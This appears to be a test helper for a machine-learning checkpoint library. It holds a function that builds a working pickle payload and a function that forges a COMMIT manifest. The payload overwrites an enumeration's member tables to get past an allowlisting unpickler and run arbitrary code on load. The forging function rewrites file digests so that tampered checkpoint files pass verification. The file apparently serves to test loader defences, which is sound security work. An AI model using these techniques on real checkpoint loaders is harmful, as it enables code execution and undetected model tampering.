"""Checkpoints as an attacker would write them."""

import json
from pathlib import Path

from torchyard_trainers.core.checkpoints import commits


def pickle_that_runs(code: str) -> bytes:
    """Return a pickle that names nothing but `SerializationFormat` and `getattr`, and runs `code` when it is loaded.

    An unpickler that lets members of enumerations through, and checks nothing of BUILD, believes it: BUILD replaces
    the tables in which the enumeration looks up its members.
    """

    def text(value: str) -> bytes:
        return b"V" + value.encode("unicode-escape") + b"\n"

    def attribute(owner: bytes, name: str) -> bytes:
        return b"cbuiltins\ngetattr\n(" + owner + text(name) + b"tR"

    def table(*names: str) -> bytes:
        return b"(" + b"".join(text(name) + enumeration for name in names) + b"d"

    enumeration = b"ctorch.distributed.checkpoint.filesystem\nSerializationFormat\n"
    members = text("_member_map_") + table("__init__", "__globals__", "__getitem__", "exec")
    values = text("_value2member_map_") + table("bltns", code)
    item = attribute(attribute(attribute(enumeration, "__init__"), "__globals__"), "__getitem__")
    built_in = item + b"(" + text("bltns") + b"tR"
    replaced = enumeration + b"(N(" + members + values + b"dtb0"
    return b"\x80\x02" + replaced + attribute(built_in, "exec") + b"(" + text(code) + b"tR."


def seal(folder: Path) -> None:
    """Write a COMMIT that fits the files of a step folder."""
    facts = json.loads((folder / "COMMIT").read_text())
    files = [path for path in folder.rglob("*") if path.is_file() and path.name != "COMMIT"]
    sealed = {str(path.relative_to(folder)): commits.digest(path) for path in files}
    del facts["files"], facts["schema"]
    commits.commit(folder, sealed, facts)
